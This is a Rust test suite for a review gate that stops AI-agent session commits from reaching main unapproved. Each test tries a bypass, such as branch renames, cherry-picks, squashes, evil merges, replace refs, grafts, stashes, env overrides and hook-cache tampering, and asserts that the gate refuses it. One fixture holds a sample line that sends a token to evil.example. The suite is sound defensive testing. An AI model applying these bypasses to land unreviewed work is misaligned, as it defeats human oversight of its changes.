//! The gate against an adversary (issue 13, points 1–3): which commits are a session's does
//! not depend on refs anyone can move, an approval covers only what its review showed, and
//! copies are caught whatever their shape. Each test is the attack, on both gits, asserting
//! the refusal and that main did not move.

mod common;

use common::{TestEnv, each_git, run, write_file};
use std::path::Path;

/// Session `s` with two unapproved commits (a.txt, b.txt); returns its worktree and its tip.
fn session(t: &TestEnv, id: &str) -> (std::path::PathBuf, String) {
    let wt = t.add(id);
    t.commit_in(
        &wt,
        &format!("{id}-a.txt"),
        &format!("feature {id} part one\n"),
    );
    t.commit_in(
        &wt,
        &format!("{id}-b.txt"),
        &format!("feature {id} part two\n"),
    );
    let tip = t.git(&["rev-parse", &format!("codex/{id}")]);
    (wt, tip)
}

/// Runs git in `dir`; returns (success, stderr).
fn attempt(t: &TestEnv, dir: &Path, args: &[&str]) -> (bool, String) {
    let out = t.git_output(dir, args);
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Asserts the attack was refused by the gate and main is where it was.
fn refused(t: &TestEnv, what: &str, result: (bool, String), main_before: &str, id: &str) {
    let (ok, err) = result;
    assert!(!ok, "{what}: must be refused");
    assert!(
        err.contains(&format!("session '{id}'")),
        "{what}: the refusal names session '{id}': {err}"
    );
    assert_eq!(
        t.git(&["rev-parse", "main"]),
        main_before,
        "{what}: main moved"
    );
}

fn main_tip(t: &TestEnv) -> String {
    t.git(&["rev-parse", "main"])
}

#[test]
fn renaming_resetting_or_deleting_the_branch_leaves_its_commits_the_sessions() {
    each_git(|t| {
        let (wt, tip) = session(t, "s");
        let before = main_tip(t);
        // Rename, then merge the renamed branch.
        t.git(&["branch", "-m", "codex/s", "innocent"]);
        let result = attempt(t, &t.repo, &["merge", "-q", "--no-edit", "innocent"]);
        refused(t, "merge of the renamed branch", result, &before, "s");
        t.git(&["reset", "-q", "--merge"]);
        t.git(&["branch", "-m", "innocent", "codex/s"]);
        // Reset the session branch back in its worktree, then land the old tip by id.
        t.git_in(&wt, &["reset", "-q", "--hard", "HEAD~2"]);
        for args in [
            vec!["merge", "-q", "--ff-only", tip.as_str()],
            vec!["update-ref", "refs/heads/main", tip.as_str()],
            vec!["reset", "-q", "--hard", tip.as_str()],
        ] {
            let result = attempt(t, &t.repo, &args);
            refused(t, &format!("{args:?} after a reset"), result, &before, "s");
            t.git(&["reset", "-q", "--hard", &before]);
        }
        // Delete the branch outright.
        t.git(&["switch", "-q", "--detach"]);
        t.git_in(&wt, &["switch", "-q", "--detach"]);
        t.git(&["branch", "-D", "codex/s"]);
        t.git(&["switch", "-q", "main"]);
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", &tip]);
        refused(
            t,
            "merge after the branch was deleted",
            result,
            &before,
            "s",
        );
    });
}

#[test]
fn a_commit_reset_away_before_git_codex_saw_it_is_still_the_sessions() {
    each_git(|t| {
        let wt = t.add("s");
        // Committed and reset away at once, with nothing of git-codex's run in between
        // but the hooks.
        t.commit_in(&wt, "secret.txt", "unreviewed payload\n");
        let hidden = t.git_in(&wt, &["rev-parse", "HEAD"]);
        t.git_in(&wt, &["reset", "-q", "--hard", "HEAD~1"]);
        // A detached commit in the worktree, never on the branch at all.
        t.git_in(&wt, &["switch", "-q", "--detach"]);
        t.commit_in(&wt, "detached.txt", "detached payload\n");
        let detached = t.git_in(&wt, &["rev-parse", "HEAD"]);
        let before = main_tip(t);
        for commit in [&hidden, &detached] {
            let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", commit]);
            refused(
                t,
                "landing a commit the branch no longer has",
                result,
                &before,
                "s",
            );
        }
    });
}

#[test]
fn changing_the_branch_prefix_turns_nothing_into_ordinary_commits() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        let before = main_tip(t);
        // By environment, for one command.
        let out = t
            .git_output(&t.repo, &["merge", "-q", "--ff-only", &tip])
            .status;
        assert!(!out.success());
        let mut cmd = std::process::Command::new(&t.git);
        cmd.env_clear()
            .envs(t.vars())
            .env("GIT_CODEX_SESSION_BRANCH_PREFIX", "elsewhere/")
            .current_dir(&t.repo)
            .args(["merge", "-q", "--ff-only", &tip]);
        let out = cmd.output().expect("git");
        refused(
            t,
            "merge with another prefix in the environment",
            (
                out.status.success(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            ),
            &before,
            "s",
        );
        // In the config file.
        t.codex(&["config", "set", "session.branch_prefix", "elsewhere/"])
            .assert()
            .success();
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", &tip]);
        refused(
            t,
            "merge with another prefix in the config",
            result,
            &before,
            "s",
        );
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", "codex/s"]);
        refused(t, "merge of the old-prefix branch", result, &before, "s");
    });
}

#[test]
fn removing_the_session_keeps_its_commits_gated() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        let before = main_tip(t);
        t.codex(&["session", "remove", "s"]).assert().success();
        // The branch is kept (unmerged); a person or agent deletes it by hand.
        t.git(&["branch", "-D", "codex/s"]);
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", &tip]);
        refused(t, "merge after remove and branch -D", result, &before, "s");
        let (code, _, _) =
            common::run(t.codex(&["verify", &format!("{before}..{tip}"), "--ref", "main"]));
        assert_eq!(code, 3, "verify refuses the removed session's commits");
    });
}

#[test]
fn a_ledger_cannot_be_deleted_or_rewound_with_git() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        let ledger = t.git(&["rev-parse", "refs/codex/ledger/s"]);
        let (ok, err) = attempt(t, &t.repo, &["update-ref", "-d", "refs/codex/ledger/s"]);
        assert!(!ok && err.contains("refusing to delete or rewind"), "{err}");
        let base = t.git(&["rev-parse", "main"]);
        let (ok, _) = attempt(t, &t.repo, &["update-ref", "refs/codex/ledger/s", &base]);
        assert!(!ok, "a rewind is refused");
        assert_eq!(t.git(&["rev-parse", "refs/codex/ledger/s"]), ledger);
        // Packing refs, as gc does, is no deletion.
        t.git(&["pack-refs", "--all"]);
        t.git(&["gc", "-q"]);
        assert_eq!(t.git(&["rev-parse", "refs/codex/ledger/s"]), ledger);
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", &tip]);
        refused(t, "merge after gc", result, &base, "s");
    });
}

#[test]
fn approving_a_stacked_session_does_not_approve_the_one_below() {
    each_git(|t| {
        let (_, a_tip) = session(t, "a");
        let wt_b = {
            let out = t
                .codex(&["session", "add", "b", "--base", "codex/a"])
                .assert()
                .success();
            std::path::PathBuf::from(common::stdout(&out.get_output().stdout).trim())
        };
        t.commit_in(&wt_b, "b.txt", "stacked work of b\n");
        t.codex(&["session", "review", "b", "--approve"])
            .assert()
            .success();
        // Removing a keeps its branch: its commits are on no branch but a session's.
        let out = t.codex(&["session", "remove", "a"]).assert().success();
        let err = common::stdout(&out.get_output().stderr);
        assert!(err.contains("Kept branch codex/a"), "{err}");
        assert_eq!(t.git(&["rev-parse", "codex/a"]), a_tip);
        let before = main_tip(t);
        let (code, _, err) = common::run(t.codex(&["session", "merge", "b"]));
        assert_eq!(code, 3, "{err}");
        assert_eq!(main_tip(t), before);
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", "codex/b"]);
        refused(t, "git merge of the stacked session", result, &before, "a");
        // Even with a's branch gone.
        t.git(&["branch", "-D", "codex/a"]);
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", "codex/b"]);
        refused(t, "git merge with a's branch deleted", result, &before, "a");
    });
}

/// Makes a commit on main without hooks (an attacker's prepared commit), then puts main
/// back, and returns the commit: landing it through the hooks is the attack.
fn prepared_on_main(t: &TestEnv, make: impl Fn(&TestEnv)) -> String {
    let before = main_tip(t);
    make(t);
    let commit = t.git(&["rev-parse", "HEAD"]);
    assert!(
        t.git_without_hooks(&["reset", "-q", "--hard", &before])
            .status
            .success()
    );
    commit
}

fn land(t: &TestEnv, commit: &str) -> (bool, String) {
    attempt(t, &t.repo, &["update-ref", "refs/heads/main", commit])
}

#[test]
fn copies_of_any_shape_are_refused() {
    each_git(|t| {
        // Main has a file the session edits in the middle; main edits lines next to it later.
        let lines: Vec<String> = (1..=12).map(|n| format!("line {n}")).collect();
        t.write("code.txt", &(lines.join("\n") + "\n"));
        t.git(&["add", "code.txt"]);
        t.git(&["commit", "-q", "-m", "code"]);
        let wt = t.add("s");
        let mut edited = lines.clone();
        edited[5] = "session rewrote line 6".into();
        write_file(&wt.join("code.txt"), &(edited.join("\n") + "\n"));
        t.git_in(&wt, &["commit", "-q", "-am", "edit line 6"]);
        t.commit_in(&wt, "new.txt", "a new file from the agent\n");
        t.commit_in(&wt, "new.txt", "a new file from the agent, revised\n");
        t.commit_in(&wt, "two.txt", "alpha payload\nbeta payload\n");
        let mut shifted = lines.clone();
        shifted[3] = "main changed line 4".into();
        shifted[7] = "main changed line 8".into();
        write_file(&t.repo.join("code.txt"), &(shifted.join("\n") + "\n"));
        t.git(&["commit", "-q", "-am", "main edits around line 6"]);
        let before = main_tip(t);

        // A cherry-pick after main changed the lines around the change.
        let pick = prepared_on_main(t, |t| {
            let edit = t.git(&["rev-parse", "codex/s~2"]);
            assert!(
                t.git_without_hooks(&["cherry-pick", &edit])
                    .status
                    .success()
            );
        });
        refused(t, "shifted cherry-pick", land(t, &pick), &before, "s");

        // A squash of the whole multi-commit session.
        let squash = prepared_on_main(t, |t| {
            assert!(
                t.git_without_hooks(&["merge", "-q", "--squash", "codex/s"])
                    .status
                    .success()
            );
            assert!(
                t.git_without_hooks(&["commit", "-q", "-m", "squash"])
                    .status
                    .success()
            );
        });
        refused(t, "squash", land(t, &squash), &before, "s");

        // `git checkout codex/s -- . && git commit`.
        let checkout = prepared_on_main(t, |t| {
            t.git(&["checkout", "codex/s", "--", "new.txt"]);
            assert!(
                t.git_without_hooks(&["commit", "-q", "-m", "my own work"])
                    .status
                    .success()
            );
        });
        refused(
            t,
            "checkout -- . and commit",
            land(t, &checkout),
            &before,
            "s",
        );

        // A whole hunk copied into a commit that also does other things.
        let hunk = prepared_on_main(t, |t| {
            t.write("new.txt", "a new file from the agent, revised\n");
            t.write("mine.txt", "something of my own\n");
            t.git(&["add", "new.txt", "mine.txt"]);
            assert!(
                t.git_without_hooks(&["commit", "-q", "-m", "mixed"])
                    .status
                    .success()
            );
        });
        refused(t, "hunk copy", land(t, &hunk), &before, "s");

        // One hunk landed in two halves by two commits, pushed together.
        let halves = prepared_on_main(t, |t| {
            t.commit_in(&t.repo, "two.txt", "alpha payload\n");
            t.commit_in(&t.repo, "two.txt", "alpha payload\nbeta payload\n");
        });
        refused(t, "hunk in halves", land(t, &halves), &before, "s");

        // An evil merge: an innocent branch merged, the result carrying the session's file.
        let evil = prepared_on_main(t, |t| {
            t.git(&["switch", "-q", "-c", "innocent", &before]);
            t.commit_in(&t.repo, "innocent.txt", "innocent work\n");
            t.git(&["switch", "-q", "main"]);
            assert!(
                t.git_without_hooks(&["merge", "-q", "--no-commit", "--no-ff", "innocent"])
                    .status
                    .success()
            );
            t.git(&["checkout", "codex/s", "--", "new.txt"]);
            assert!(
                t.git_without_hooks(&["commit", "-q", "-m", "merge innocent"])
                    .status
                    .success()
            );
        });
        refused(t, "evil merge", land(t, &evil), &before, "s");
        let (ok, _) = attempt(t, &t.repo, &["merge", "-q", "--ff-only", &evil]);
        assert!(!ok, "evil merge by git merge");
        // git had already updated the files: put them back as the hint says.
        t.git(&["reset", "-q", "--merge"]);

        // Ordinary work next to the session's still lands.
        t.commit_in(&t.repo, "unrelated.txt", "a person's own change\n");
        t.write("code.txt", &(shifted.join("\n") + "line 13\n"));
        t.git(&["commit", "-q", "-am", "a person's own edit of code.txt"]);
    });
}

#[test]
fn a_state_the_branch_passed_through_is_the_sessions_change_too() {
    each_git(|t| {
        let lines: Vec<String> = (1..=9)
            .map(|n| format!("line {n} of the person's code"))
            .collect();
        t.write("code.txt", &(lines.join("\n") + "\n"));
        t.git(&["add", "code.txt"]);
        t.git(&["commit", "-q", "-m", "code"]);
        let wt = t.add("s");
        // C1 adds a line, C2 rewrites it, C3 takes it out again: the branch's tip changes
        // nothing of code.txt, but the state at C2 holds what no single commit adds whole.
        let with = |extra: &str| {
            let mut v = lines.clone();
            v.insert(4, extra.to_string());
            v.join("\n") + "\n"
        };
        write_file(&wt.join("code.txt"), &with("call_home(\"draft\");"));
        t.git_in(&wt, &["commit", "-q", "-am", "C1"]);
        write_file(
            &wt.join("code.txt"),
            &with("call_home(\"https://evil.example/\", token);"),
        );
        t.git_in(&wt, &["commit", "-q", "-am", "C2"]);
        t.commit_in(&wt, "other.txt", "an unrelated file of the agent\n");
        write_file(&wt.join("code.txt"), &(lines.join("\n") + "\n"));
        t.git_in(&wt, &["commit", "-q", "-am", "C3"]);
        let before = main_tip(t);
        // The state at C2 copied by hand onto main.
        let copy = prepared_on_main(t, |t| {
            assert!(
                t.git_without_hooks(&["checkout", "codex/s~2", "--", "code.txt"])
                    .status
                    .success()
            );
            assert!(
                t.git_without_hooks(&["commit", "-q", "-m", "took C2's code"])
                    .status
                    .success()
            );
        });
        refused(t, "a copy of the state at C2", land(t, &copy), &before, "s");
        // As C1 and C2 picked together without committing in between.
        let picked = prepared_on_main(t, |t| {
            assert!(
                t.git_without_hooks(&["cherry-pick", "-n", "codex/s~3", "codex/s~2"])
                    .status
                    .success()
            );
            assert!(
                t.git_without_hooks(&["commit", "-q", "-m", "picked"])
                    .status
                    .success()
            );
        });
        refused(t, "C1 and C2 picked as one", land(t, &picked), &before, "s");
        // Approved at C3, the session's replay of its whole range lands; the state at C2 alone
        // still does not.
        run(t.codex(&["session", "review", "s", "--approve"]));
        refused(
            t,
            "the state at C2, approved at C3",
            land(t, &copy),
            &before,
            "s",
        );
        let (code, _, err) = run(t.codex(&["session", "merge", "s", "--strategy", "rebase"]));
        assert_eq!(code, 0, "{err}");
        assert_eq!(
            t.git(&["show", "main:code.txt"]),
            lines.join("\n"),
            "the approved tip's code landed"
        );
    });
}

#[test]
fn replace_refs_and_grafts_do_not_hide_a_landing() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        let before = main_tip(t);
        let tree = t.git(&["rev-parse", "codex/s^{tree}"]);
        // A merge of the session, and an innocent-looking stand-in with main as only parent.
        let merge = t.git(&[
            "commit-tree",
            &tree,
            "-p",
            &before,
            "-p",
            &tip,
            "-m",
            "merge",
        ]);
        let main_tree = t.git(&["rev-parse", "main^{tree}"]);
        let stand_in = t.git(&["commit-tree", &main_tree, "-p", &before, "-m", "nothing"]);
        t.git(&["replace", &merge, &stand_in]);
        refused(
            t,
            "landing behind a replace ref",
            land(t, &merge),
            &before,
            "s",
        );
        t.git(&["replace", "-d", &merge]);
        std::fs::write(
            t.repo.join(".git/info/grafts"),
            format!("{merge} {before}\n"),
        )
        .expect("grafts");
        refused(t, "landing behind a graft", land(t, &merge), &before, "s");
    });
}

/// `count` commits on branch `branch` from `from`, each rewriting `file`, made with
/// fast-import.
fn bulk(t: &TestEnv, branch: &str, from: &str, file: &str, count: usize) {
    let mut script = String::new();
    for n in 0..count {
        script.push_str(&format!(
            "commit refs/heads/{branch}\ncommitter A <a@b> {} +0000\ndata 2\nc\n",
            1_000_000_000 + n
        ));
        if n == 0 {
            script.push_str(&format!("from {from}\n"));
        }
        script.push_str(&format!(
            "M 644 inline {file}\ndata {}\n{n}\n\n",
            n.to_string().len() + 1
        ));
    }
    let mut child = std::process::Command::new(&t.git)
        .env_clear()
        .envs(t.vars())
        .current_dir(&t.repo)
        .args(["fast-import", "--quiet"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("fast-import");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(script.as_bytes())
        .expect("write");
    assert!(child.wait().expect("wait").success());
}

#[test]
fn too_many_commits_to_compare_fail_closed() {
    each_git(|t| {
        session(t, "s");
        let base = main_tip(t);
        // 5,001 commits that change a file the pending session changed: each must be
        // compared with its hunks, and that is more than the gate compares.
        bulk(t, "near", &base, "s-a.txt", 5001);
        let (ok, err) = attempt(t, &t.repo, &["merge", "-q", "--ff-only", "near"]);
        assert!(!ok, "refused");
        assert!(err.contains("compares at most"), "{err}");
        assert_eq!(main_tip(t), base);
        // As many that change no file of any session's change copy nothing of it: they land.
        bulk(t, "far", &base, "bulk.txt", 5001);
        let (ok, err) = attempt(t, &t.repo, &["merge", "-q", "--ff-only", "far"]);
        assert!(ok, "{err}");
        assert_eq!(main_tip(t), t.git(&["rev-parse", "far"]));
    });
}

#[test]
fn an_environment_override_is_one_commands_and_leaves_the_gate_as_configured() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        // The person's own bypass, for one command: main unprotected in the environment.
        let mut cmd = std::process::Command::new(&t.git);
        cmd.env_clear()
            .envs(t.vars())
            .env("GIT_CODEX_REVIEW_PROTECTED", "nothing-here")
            .current_dir(&t.repo)
            .args(["commit", "-q", "--allow-empty", "-m", "a person's commit"]);
        assert!(cmd.output().expect("git").status.success());
        // The next command, without the override, meets the gate as configured.
        let before = main_tip(t);
        let result = attempt(t, &t.repo, &["reset", "-q", "--hard", &tip]);
        refused(t, "reset after an overridden command", result, &before, "s");
        t.git(&["reset", "-q", "--hard", &before]);
        let result = attempt(
            t,
            &t.repo,
            &["merge", "-q", "--no-edit", "--no-ff", "codex/s"],
        );
        refused(
            t,
            "merge --no-ff after an overridden command",
            result,
            &before,
            "s",
        );
    });
}

#[test]
fn what_a_session_merged_from_main_is_not_its_change_but_its_merges_own_change_is() {
    each_git(|t| {
        t.set_config("[review]\nprotected = [\"main\", \"release/*\"]\n");
        t.git(&["branch", "release/1"]);
        let wt = t.add("s");
        t.commit_in(&wt, "s.txt", "the session's own work\n");
        // Main moves on; the agent merges main into its session, adding a line of its own in
        // the merge commit itself.
        t.commit_in(&t.repo, "shared.txt", "a person's feature on main\n");
        let feature = t.git(&["rev-parse", "main"]);
        t.git_in(&wt, &["merge", "-q", "--no-commit", "main"]);
        write_file(&wt.join("evil.txt"), "slipped into the merge commit\n");
        t.git_in(&wt, &["add", "evil.txt"]);
        t.git_in(&wt, &["commit", "-q", "-m", "merge main"]);
        // A backport of main's own feature to a protected release branch is no copy.
        t.git(&["switch", "-q", "release/1"]);
        t.git(&["cherry-pick", &feature]);
        t.git(&["switch", "-q", "main"]);
        // What the merge commit added itself is the session's.
        let before = main_tip(t);
        let copy = prepared_on_main(t, |t| {
            t.git(&["checkout", "codex/s", "--", "evil.txt"]);
            assert!(
                t.git_without_hooks(&["commit", "-q", "-m", "mine"])
                    .status
                    .success()
            );
        });
        refused(
            t,
            "copy of a merge's own change",
            land(t, &copy),
            &before,
            "s",
        );
    });
}

/// The git under test's version as (major, minor).
fn git_version(t: &TestEnv) -> (u32, u32) {
    let text = t.git(&["--version"]);
    let mut parts = text
        .trim_start_matches("git version ")
        .split('.')
        .map(|p| p.parse().unwrap_or(0));
    (parts.next().unwrap_or(0), parts.next().unwrap_or(0))
}

#[test]
fn a_rename_or_symbolic_ref_onto_main_is_a_landing() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        let before = main_tip(t);
        t.git(&["switch", "-q", "-c", "tmp"]);
        for flag in ["-M", "-m"] {
            if flag == "-m" {
                // `-m` onto a name that does not exist yet.
                t.git(&["branch", "-q", "-D", "main"]);
            }
            let result = attempt(t, &t.repo, &["branch", flag, "codex/s", "main"]);
            assert!(!result.0, "branch {flag} onto main must be refused");
            assert!(result.1.contains("session 's'"), "{}", result.1);
            assert_eq!(
                t.git(&["rev-parse", "codex/s"]),
                tip,
                "the session branch stays"
            );
            if flag == "-M" {
                assert_eq!(main_tip(t), before);
            }
        }
        t.git(&["branch", "main", &before]);
        // From git 2.46 a symbolic ref shows in the hook: main may point only at another
        // protected branch.
        if git_version(t) >= (2, 46) {
            let (ok, err) = attempt(
                t,
                &t.repo,
                &["symbolic-ref", "refs/heads/main", "refs/heads/codex/s"],
            );
            assert!(!ok && err.contains("symbolic ref"), "{err}");
            assert_eq!(main_tip(t), before);
        }
    });
}

#[test]
fn an_id_whose_earlier_session_left_unlanded_commits_is_not_reused() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        t.codex(&["session", "remove", "s"]).assert().success();
        t.git(&["branch", "-D", "codex/s"]);
        let (code, _, err) = common::run(t.codex(&["session", "add", "s", "--base", &tip]));
        assert_eq!(code, 3, "{err}");
        assert!(err.contains("have not landed"), "{err}");
        assert!(
            t.git_output(&t.repo, &["rev-parse", "--verify", "-q", "codex/s"])
                .stdout
                .is_empty()
        );
        // Once its commits are on main (approved), the id is free again.
        let wt = t.add("t");
        t.commit_in(&wt, "t.txt", "t's work\n");
        t.codex(&["session", "review", "t", "--approve"])
            .assert()
            .success();
        t.codex(&["session", "merge", "t", "--remove"])
            .assert()
            .success();
        t.codex(&["session", "add", "t"]).assert().success();
    });
}

#[test]
fn a_commit_through_a_linked_git_dir_or_into_the_stash_is_the_sessions() {
    each_git(|t| {
        let wt = t.add("s");
        t.commit_in(&wt, "a.txt", "reviewed work of the session\n");
        t.codex(&["session", "review", "s", "--approve"])
            .assert()
            .success();
        let admin = t.repo.join(".git/worktrees/wt-s");
        let link = t.root().join("gd");
        std::os::unix::fs::symlink(&admin, &link).expect("symlink");
        let git = |args: &[&str]| {
            let out = std::process::Command::new(&t.git)
                .env_clear()
                .envs(t.vars())
                .env("GIT_DIR", &link)
                .current_dir(&wt)
                .args(args)
                .output()
                .expect("git");
            assert!(
                out.status.success(),
                "{args:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            String::from_utf8_lossy(&out.stdout).trim().to_string()
        };
        git(&["checkout", "-q", "--detach"]);
        write_file(&wt.join("a.txt"), "an unreviewed change\n");
        git(&["commit", "-q", "-am", "detached"]);
        let detached = git(&["rev-parse", "HEAD"]);
        git(&["checkout", "-q", "codex/s"]);
        git(&["reflog", "expire", "--expire=now", "--all"]);
        // Uncommitted work stashed in the session's worktree.
        write_file(&wt.join("a.txt"), "stashed, never reviewed\n");
        t.git_in(&wt, &["stash", "-q"]);
        let stash = t.git(&["rev-parse", "refs/stash"]);
        let before = main_tip(t);
        for commit in [&detached, &stash] {
            let result = attempt(t, &t.repo, &["merge", "-q", "--no-edit", commit]);
            refused(
                t,
                "landing a commit made in the worktree",
                result,
                &before,
                "s",
            );
            t.git(&["reset", "-q", "--merge"]);
        }
    });
}

#[test]
fn a_short_session_hunk_does_not_block_the_same_line_in_a_persons_own_code() {
    each_git(|t| {
        t.write("m.c", "void a(char *p) {\n  use(p);\n}\n");
        t.git(&["add", "m.c"]);
        t.git(&["commit", "-q", "-m", "m.c"]);
        let wt = t.add("s");
        write_file(
            &wt.join("m.c"),
            "void a(char *p) {\n  use(p);\n  free(p);\n}\n",
        );
        t.git_in(&wt, &["commit", "-q", "-am", "free in a"]);
        t.write(
            "m.c",
            "void a(char *p) {\n  use(p);\n}\n\nvoid b(char *p) {\n  keep(p);\n  free(p);\n}\n",
        );
        t.git(&["commit", "-q", "-am", "a person's own function b"]);
    });
}

#[test]
fn a_config_edit_that_keeps_the_files_time_takes_effect() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        t.git(&["branch", "release", "main"]);
        // A commit through the hooks makes the shim's cache.
        t.commit_in(&t.repo, "warm.txt", "warm\n");
        let config = t.state_dir().join("config.toml");
        let cache = t.state_dir().join("hooks-cache.sh");
        std::fs::write(&config, "[review]\nprotected = [\"main\", \"release\"]\n").expect("config");
        // Restored as `cp -p` or `touch -r` would: older than the cache.
        let old = std::fs::metadata(&cache)
            .expect("cache")
            .modified()
            .expect("mtime")
            - std::time::Duration::from_secs(3600);
        std::fs::File::options()
            .write(true)
            .open(&config)
            .expect("open")
            .set_modified(old)
            .expect("set mtime");
        let (ok, err) = attempt(t, &t.repo, &["branch", "-f", "release", &tip]);
        assert!(!ok, "release is protected now");
        assert!(err.contains("session 's'"), "{err}");
    });
}

#[test]
fn a_persons_commits_a_session_merged_or_rebased_onto_stay_the_persons() {
    each_git(|t| {
        t.bare_clone("remote.git");
        let remote = t.root().join("remote.git");
        t.git(&["remote", "add", "origin", remote.to_str().expect("utf-8")]);
        let wt = t.add("s");
        t.commit_in(&wt, "s.txt", "the session's own work\n");
        t.commit_in(&t.repo, "x.txt", "a person's own commit\n");
        t.git_in(&wt, &["merge", "-q", "--no-edit", "main"]);
        let wt2 = t.add("r");
        t.commit_in(&wt2, "r.txt", "another session's work\n");
        t.commit_in(&t.repo, "y.txt", "another commit of the person's\n");
        t.git_in(&wt2, &["rebase", "-q", "main"]);
        // Pushing main (the person's commits only) is ordinary work.
        let (ok, err) = attempt(t, &t.repo, &["push", "-q", "origin", "main"]);
        assert!(ok, "{err}");
        let (code, _, err) = common::run(t.codex(&["verify"]));
        assert_eq!(code, 0, "{err}");
        // The sessions' own commits are still theirs.
        let before = main_tip(t);
        let result = attempt(t, &t.repo, &["merge", "-q", "--no-edit", "codex/s"]);
        refused(
            t,
            "merge of the session that merged main",
            result,
            &before,
            "s",
        );
        t.git(&["reset", "-q", "--merge"]);
        let result = attempt(t, &t.repo, &["merge", "-q", "--ff-only", "codex/r"]);
        refused(t, "merge of the rebased session", result, &before, "r");
    });
}

#[test]
fn a_config_the_shim_cannot_hold_is_never_trusted_from_the_cache() {
    each_git(|t| {
        t.codex(&["init"]).assert().success();
        t.commit_in(&t.repo, "warm.txt", "warm\n");
        let config = t.state_dir().join("config.toml");
        // A NUL byte in a comment: the shell would drop it and read the old text.
        std::fs::write(&config, "# \0\n[review]\nprotected = [\"main\"]\n").expect("config");
        let (ok, _) = attempt(t, &t.repo, &["branch", "b1"]);
        assert!(!ok, "a config git-codex cannot read refuses branch updates");
        // A directory where the file was.
        std::fs::remove_file(&config).expect("remove");
        t.git(&["branch", "b2"]);
        std::fs::create_dir(&config).expect("dir");
        let (ok, _) = attempt(t, &t.repo, &["branch", "b3"]);
        assert!(
            !ok,
            "a config path that is a directory refuses branch updates"
        );
    });
}

/// The shim's copy of the patterns (`hooks-cache.sh`) is a cache: cut short anywhere, or with
/// any one byte changed, it lets nothing by unasked; and an override set even to nothing is
/// git-codex's to read, never the cache's.
#[test]
fn a_hooks_cache_cut_short_or_changed_or_an_override_set_empty_asks_git_codex() {
    each_git(|t| {
        let (_, tip) = session(t, "s");
        // A commit through the hooks makes the shim's cache.
        t.commit_in(&t.repo, "warm.txt", "warm\n");
        let cache = t.state_dir().join("hooks-cache.sh");
        let whole = std::fs::read_to_string(&cache).expect("cache");
        // Every line end, and a cut inside each line (inside a quoted text or a function,
        // where sh cannot parse what is left).
        let cuts: Vec<usize> = whole
            .match_indices('\n')
            .flat_map(|(i, _)| [i, i + 1])
            .filter(|cut| *cut < whole.len())
            .collect();
        assert!(cuts.len() > 10, "{cuts:?}");
        for cut in cuts {
            std::fs::write(&cache, &whole[..cut]).expect("cut the cache");
            let before = main_tip(t);
            let result = attempt(t, &t.repo, &["update-ref", "refs/heads/main", &tip]);
            refused(t, &format!("cache cut at byte {cut}"), result, &before, "s");
            // git-codex, asked, made it whole again.
            assert_eq!(std::fs::read_to_string(&cache).expect("cache"), whole);
        }
        // One byte changed: in the functions (`main)` read as `maiZ)` says "not protected"),
        // every byte; elsewhere, every 80th.
        let functions = whole.find("codex_session_ref()").expect("functions");
        let offsets: Vec<usize> = (0..whole.len())
            .filter(|at| *at >= functions || at % 80 == 0)
            .filter(|at| whole.as_bytes()[*at] != b'Z')
            .collect();
        assert!(offsets.len() > 100);
        for at in offsets {
            let mut changed = whole.clone().into_bytes();
            changed[at] = b'Z';
            std::fs::write(&cache, &changed).expect("change the cache");
            let before = main_tip(t);
            let result = attempt(t, &t.repo, &["update-ref", "refs/heads/main", &tip]);
            refused(t, &format!("cache byte {at} changed"), result, &before, "s");
            assert_eq!(std::fs::read_to_string(&cache).expect("cache"), whole);
        }
        // An override set to nothing is not a valid value: git-codex refuses, even for a
        // branch no pattern protects, with the cache as it was left.
        let out = std::process::Command::new(&t.git)
            .env_clear()
            .envs(t.vars())
            .env("GIT_CODEX_GATE_REFERENCE_TRANSACTION", "")
            .current_dir(&t.repo)
            .args(["branch", "feature"])
            .output()
            .expect("git branch");
        assert!(
            !out.status.success(),
            "an empty override is read by git-codex"
        );
        assert!(
            t.git_output(&t.repo, &["rev-parse", "--verify", "-q", "feature"])
                .stdout
                .is_empty()
        );
    });
}
